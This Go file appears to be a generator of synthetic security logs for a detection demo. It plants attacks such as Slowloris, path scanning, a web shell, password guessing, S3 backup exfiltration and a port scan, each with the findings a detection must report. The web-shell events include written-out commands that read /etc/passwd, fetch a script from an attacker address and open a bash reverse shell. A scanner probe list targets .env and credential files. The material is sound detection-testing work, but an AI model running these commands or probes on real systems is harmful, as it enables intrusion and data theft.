package demo

import (
	"fmt"
	"strings"
	"time"
)

// Attack is one planted attack and the findings it must produce.
type Attack struct {
	ID     string     `json:"id"`
	Title  string     `json:"title"`
	Source string     `json:"source"`
	Story  string     `json:"story"`
	Expect []Expected `json:"expect"`
}

// Expected is one finding a detection must report: the detection and the
// values of (some of) its key columns, upper-case as Snowflake names them.
type Expected struct {
	Detection string            `json:"detection"`
	Key       map[string]string `json:"key"`
}

func (e Expected) String() string {
	return e.Detection + " " + formatKey(e.Key)
}

func expect(detection string, kv ...string) Expected {
	k := map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		k[kv[i]] = kv[i+1]
	}
	return Expected{Detection: detection, Key: k}
}

// The attackers (TEST-NET-3 addresses: benign traffic never uses them).
const (
	slowlorisIP  = "203.0.113.23"
	scannerIP    = "203.0.113.77"
	bruteForceIP = "203.0.113.99"
	thiefIP      = "203.0.113.200"
	proberIP     = "203.0.113.45"
	anonymousIP  = "203.0.113.150"
	sshIP        = "203.0.113.10"
	portScanIP   = "203.0.113.66"
)

// Attacks all happen within the last ten minutes, inside the shortest
// lookback of the detections (15 minutes).
func (g *gen) plantAttacks() {
	g.webAttacks()
	g.hostAttacks()
	g.teleportAttacks()
	g.s3Attacks()
	g.vpcAttacks()
}

func (g *gen) attack(a Attack) *Attack {
	g.ds.Attacks = append(g.ds.Attacks, a)
	return &g.ds.Attacks[len(g.ds.Attacks)-1]
}

func (g *gen) webAttacks() {
	for _, age := range g.spreadAges(30, 7*time.Minute, 9*time.Minute) {
		g.ds.Apache = append(g.ds.Apache, apacheHit{T: g.at(age), Host: slowlorisIP, Code: 408, Size: -1, Phase: phaseAttack})
	}
	g.attack(Attack{ID: "web-slowloris", Source: "apache", Title: "Slowloris: 30 connections that never send a request (HTTP 408)",
		Story:  slowlorisIP + " opens connections to web-1 and never finishes a request; Apache times them out with 408.",
		Expect: []Expected{expect("apache_408_burst", "HOST", slowlorisIP)}})

	probes := []string{"/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/server-status", "/.aws/credentials",
		"/admin/.env", "/api/.env", "/wp-admin/setup-config.php", "/.git/HEAD"}
	words := []string{"admin", "backup", "old", "test", "dev", "staging", "config", "db", "sql", "upload", "private", "tmp",
		"cgi-bin", "console", "manager", "login.php", "shell.php", "info.php", "debug", "actuator"}
	var paths []string
	paths = append(paths, probes...)
	for _, w := range words {
		for _, ext := range []string{"", ".zip", ".bak", ".tar.gz", ".sql"} {
			paths = append(paths, "/"+w+ext)
		}
	}
	paths = paths[:120]
	agent := "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
	for i, age := range g.spreadAges(len(paths), 5*time.Minute, 7*time.Minute) {
		code, size := 404, 196
		if paths[i] == "/server-status" {
			code, size = 403, 199
		}
		g.ds.Apache = append(g.ds.Apache, apacheHit{T: g.at(age), Host: scannerIP, Method: "GET", Path: paths[len(paths)-1-i],
			Code: code, Size: size, Agent: agent, Phase: phaseAttack})
	}
	g.attack(Attack{ID: "web-scanner", Source: "apache", Title: "Vulnerability scanner probing for .env, .git, wp-login.php and 110 more paths",
		Story: scannerIP + " runs a content-discovery scan against web-1: 120 requests in two minutes, nearly all 404. " +
			"With 120 requests today it also enters the web server's top ten clients.",
		Expect: []Expected{
			expect("apache_scanner_paths", "HOST", scannerIP),
			expect("apache_client_errors_by_ip", "HOST", scannerIP),
			expect("apache_top_source_ips", "HOST", scannerIP),
		}})

	// The checkout backend fails for two minutes: the busiest visitors see 503s.
	clients := g.webClients()[:5]
	for _, age := range g.spreadAges(60, 2*time.Minute, 4*time.Minute) {
		c := clients[g.rng.IntN(len(clients))]
		g.ds.Apache = append(g.ds.Apache, apacheHit{T: g.at(age), Host: c.ip, Method: "POST", Path: "/api/v1/checkout",
			Code: 503, Size: 299, Referer: "https://shop.example.com/cart", Agent: c.agent, Phase: phaseAttack})
	}
	g.attack(Attack{ID: "web-5xx-burst", Source: "apache", Title: "Checkout backend down: 60 HTTP 503 in two minutes",
		Story:  "The application behind /api/v1/checkout stops answering; Apache returns 503 Service Unavailable to real customers.",
		Expect: []Expected{expect("apache_5xx_burst", "CODE", "503")}})
}

func (g *gen) hostAttacks() {
	worker := 1815
	t := g.at(3 * time.Minute)
	g.ds.GoAudit = append(g.ds.GoAudit,
		g.shell(g.goAudit(t, phaseAttack, 48, worker, 23101, 59, "sh", "/usr/bin/bash",
			[]string{"/bin/sh", "-c", "id; uname -a; cat /etc/passwd"}, "/var/www/html/uploads")),
		g.goAudit(t.Add(20*time.Second), phaseAttack, 48, worker, 23107, 59, "curl", "/usr/bin/curl",
			[]string{"curl", "-s", "http://" + scannerIP + "/x.sh", "-o", "/tmp/.x.sh"}, "/var/www/html/uploads"),
		g.shell(g.goAudit(t.Add(45*time.Second), phaseAttack, 48, worker, 23112, 59, "bash", "/usr/bin/bash",
			[]string{"bash", "-c", "bash -i >& /dev/tcp/" + scannerIP + "/4444 0>&1"}, "/var/www/html/uploads")),
	)
	g.attack(Attack{ID: "host-webshell", Source: "go-audit", Title: "Web shell: httpd (user apache) spawns /bin/sh and a reverse shell",
		Story: "An uploaded PHP file runs commands as apache on web-1: a shell for reconnaissance, curl for a second stage " +
			"(not a shell: no alert), then a reverse shell to " + scannerIP + ".",
		// Sequence numbers are known once the log is in order: see expectShells.
	})
}

func (g *gen) shell(e goAuditEvent) goAuditEvent {
	e.shell = true
	return e
}

// expectShells names the planted shells' go-audit sequence numbers.
func (g *gen) expectShells() {
	for i := range g.ds.Attacks {
		a := &g.ds.Attacks[i]
		if a.ID != "host-webshell" {
			continue
		}
		for _, e := range g.ds.GoAudit {
			if e.shell {
				a.Expect = append(a.Expect, expect("goaudit_webserver_shell", "SEQUENCE", fmt.Sprint(e.Sequence)))
			}
		}
	}
}

func (g *gen) teleportAttacks() {
	a := g.attack(Attack{ID: "teleport-bruteforce", Source: "teleport", Title: "Password guessing against the break-glass admin account",
		Story:  bruteForceIP + " tries eight passwords for Teleport user admin in two minutes.",
		Expect: []Expected{expect("teleport_login_bruteforce", "USER_NAME", "admin")}})
	for _, age := range g.spreadAges(8, 6*time.Minute, 8*time.Minute) {
		e := g.tp(g.at(age), phaseAttack, map[string]any{"event": "user.login", "code": "T1000W", "user": "admin", "method": "local",
			"success": false, "error": "invalid username, password or second factor", "message": "invalid username, password or second factor",
			"addr.remote": g.remote(bruteForceIP), "user_agent": "python-requests/2.31.0"})
		a.Expect = append(a.Expect, expect("teleport_failed_events", "EVENT_ID", e.uid()))
	}

	a = g.attack(Attack{ID: "teleport-db-probe", Source: "teleport", Title: "Failed database queries: dave probes prod-postgres for secrets",
		Story:  "dave's Teleport session queries tables his database role cannot read; PostgreSQL refuses four queries.",
		Expect: []Expected{expect("teleport_failed_db_queries", "USER_NAME", "dave", "DB_SERVICE", "prod-postgres")}})
	sid := g.uuid()
	db := func(extra map[string]any) map[string]any {
		m := map[string]any{"db_service": "prod-postgres", "db_protocol": "postgres", "db_uri": "10.0.3.40:5432", "db_name": "app",
			"db_user": "app_ro", "sid": sid, "user": "dave"}
		for k, v := range extra {
			m[k] = v
		}
		return m
	}
	g.tp(g.at(5*time.Minute+30*time.Second), phaseAttack, db(map[string]any{"event": "db.session.start", "code": "TDB00I", "success": true}))
	for i, q := range []string{"select * from users;", "select * from pg_shadow;", "select * from secrets.api_keys;", "copy users to '/tmp/u.csv';"} {
		e := g.tp(g.at(5*time.Minute-time.Duration(i)*15*time.Second), phaseAttack, db(map[string]any{"event": "db.session.query.failed",
			"code": "TDB02W", "success": false, "db_query": q, "error": "ERROR: permission denied (SQLSTATE 42501)"}))
		a.Expect = append(a.Expect, expect("teleport_failed_events", "EVENT_ID", e.uid()))
	}

	a = g.attack(Attack{ID: "teleport-denied-sessions", Source: "teleport", Title: "Denied database sessions: eve tries three databases her roles do not grant",
		Story:  "The contractor account eve tries prod-postgres, billing-mysql and analytics-clickhouse; Teleport denies each session.",
		Expect: []Expected{expect("teleport_failed_sessions", "USER_NAME", "eve")}})
	for i, svc := range []string{"prod-postgres", "billing-mysql", "analytics-clickhouse"} {
		e := g.tp(g.at(4*time.Minute-time.Duration(i)*20*time.Second), phaseAttack, map[string]any{"event": "db.session.start",
			"code": "TDB00W", "success": false, "user": "eve", "db_service": svc, "db_name": "app", "db_user": "admin",
			"sid": g.uuid(), "error": "access to db denied. User does not have permissions. Confirm database user and name."})
		a.Expect = append(a.Expect, expect("teleport_failed_events", "EVENT_ID", e.uid()))
	}
}

func (g *gen) s3Attacks() {
	thief := iamUser("backup-admin")
	cli := "aws-cli/2.13.4 Python/3.11.4 Windows/10 exe/AMD64"
	for _, age := range g.spreadAges(25, 7*time.Minute, 9*time.Minute) {
		t := g.at(age)
		size := g.between64(70_000_000, 90_000_000)
		g.s3(t, phaseAttack, thiefIP, thief, cli, func(r *s3Request) {
			r.Bucket, r.Operation, r.Key, r.Status, r.BytesSent, r.ObjectSize = "acme-backups", "REST.GET.OBJECT",
				"backups/db/app-"+t.Add(-time.Duration(g.between(1, 72))*time.Hour).Format("20060102T15")+"00.sql.gz", 200, size, size
		})
	}
	g.attack(Attack{ID: "s3-exfiltration", Source: "s3", Title: "Database backups downloaded from an unknown address",
		Story: "Stolen keys of the IAM user backup-admin are used from " + thiefIP + " to download 25 database backups (about 2 GB): " +
			"the address enters the top ten S3 talkers by bytes.",
		Expect: []Expected{expect("s3_traffic_by_ip", "REMOTEIP", thiefIP)}})

	for _, age := range g.spreadAges(30, 5*time.Minute, 6*time.Minute) {
		g.s3(g.at(age), phaseAttack, thiefIP, thief, cli, func(r *s3Request) {
			r.Bucket, r.Operation, r.Key, r.Status = "acme-prod-data", "REST.DELETE.OBJECT", g.uploadKey(), 204
		})
	}
	g.attack(Attack{ID: "s3-mass-delete", Source: "s3", Title: "Mass deletion from an address never seen before",
		Story:  "Then the same keys delete 30 customer uploads in a minute: ransom or sabotage.",
		Expect: []Expected{expect("s3_mass_delete_new_ip", "REMOTEIP", thiefIP, "REQUESTER", thief)}})

	r := g.s3(g.at(8*time.Minute), phaseAttack, "10.0.3.15", iamUser("jdoe"), "S3Console/0.4, aws-internal/3 aws-sdk-java/1.12.488", func(r *s3Request) {
		r.Bucket, r.Operation, r.Key, r.Status = "acme-security-audit", "REST.DELETE.OBJECT", "audit/2024/01/15/cloudtrail-digest-7f3a9b2c.json.gz", 204
	})
	g.attack(Attack{ID: "s3-protected-delete", Source: "s3", Title: "An audit log object was deleted",
		Story:  "jdoe deletes a CloudTrail digest under audit/ in acme-security-audit from the console: covering tracks, or a mistake.",
		Expect: []Expected{expect("s3_protected_object_deleted", "REQUESTID", r.RequestID)}})

	ops := []string{"REST.GET.BUCKET", "REST.GET.BUCKETPOLICY", "REST.GET.OBJECT", "REST.GET.ACL"}
	for i, age := range g.spreadAges(12, 6*time.Minute, 7*time.Minute) {
		g.s3(g.at(age), phaseAttack, proberIP, iamUser("ci-deployer"), "aws-cli/2.15.0 Python/3.11.6 Darwin/23.1.0 exe/x86_64", func(r *s3Request) {
			r.Bucket, r.Operation, r.Status, r.ErrorCode, r.BytesSent = "acme-backups", ops[i%len(ops)], 403, "AccessDenied", 243
			if r.Operation == "REST.GET.OBJECT" {
				r.Key = "backups/db/app-latest.sql.gz"
			}
		})
	}
	g.attack(Attack{ID: "s3-access-denied", Source: "s3", Title: "A leaked CI key probes the backups bucket (403 AccessDenied)",
		Story:  "The ci-deployer access key, leaked in a public repository, is tried from " + proberIP + " against acme-backups; S3 refuses 12 requests.",
		Expect: []Expected{expect("s3_access_denied", "REMOTEIP", proberIP, "REQUESTER", iamUser("ci-deployer"), "BUCKET_NAME", "acme-backups")}})

	a := g.attack(Attack{ID: "s3-anonymous", Source: "s3", Title: "Anonymous downloads of a customer export",
		Story: "A customer export in acme-prod-data was made public by mistake: " + anonymousIP + " downloads it four times without credentials."})
	for _, age := range g.spreadAges(4, 4*time.Minute, 5*time.Minute) {
		r := g.s3(g.at(age), phaseAttack, anonymousIP, "", "curl/8.4.0", func(r *s3Request) {
			r.Bucket, r.Operation, r.Key, r.Status, r.BytesSent, r.ObjectSize = "acme-prod-data", "REST.GET.OBJECT", "exports/customers-2024.csv", 200, 2_184_377, 2_184_377
		})
		a.Expect = append(a.Expect, expect("s3_anonymous_requests", "REQUESTID", r.RequestID))
	}
}

func (g *gen) vpcAttacks() {
	for _, age := range []time.Duration{9 * time.Minute, 6 * time.Minute, 3 * time.Minute} {
		g.flowPair(g.flowStart(age), phaseAttack, eniWeb1, sshIP, eniWeb1.addr, 22, g.between64(3_000, 6_000), g.between64(4_000, 9_000), "ACCEPT")
	}
	g.attack(Attack{ID: "vpc-ssh-from-internet", Source: "vpc", Title: "SSH to web-1 accepted from the internet",
		Story:  "A security group change opened port 22 of web-1 to 0.0.0.0/0; " + sshIP + " connects three times.",
		Expect: []Expected{expect("vpc_admin_ports_from_internet", "INTERNAL_ADDR", eniWeb1.addr, "EXTERNAL_ADDR", sshIP, "PORT", "22")}})

	ports := []int{21, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 1723, 2049, 2375, 3000,
		3306, 3389, 5000, 5432, 5900, 5985, 6379, 7001, 8000, 8080, 8081, 8443, 8888, 9000, 9090, 9200, 9300, 11211, 27017, 50000}
	start := g.flowStart(8 * time.Minute)
	for _, p := range ports {
		g.flowPair(start, phaseAttack, eniWeb2, portScanIP, eniWeb2.addr, p, 44, 0, "REJECT")
	}
	g.attack(Attack{ID: "vpc-port-scan", Source: "vpc", Title: "Port scan of web-2: 40 ports in a minute, all rejected",
		Story:  portScanIP + " sweeps 40 well-known ports of web-2; the security group drops every probe.",
		Expect: []Expected{expect("vpc_port_scan", "SRCADDR", portScanIP)}})
}

func formatKey(k map[string]string) string {
	var parts []string
	for _, c := range sortedKeys(k) {
		parts = append(parts, strings.ToLower(c)+"="+k[c])
	}
	return strings.Join(parts, " ")
}
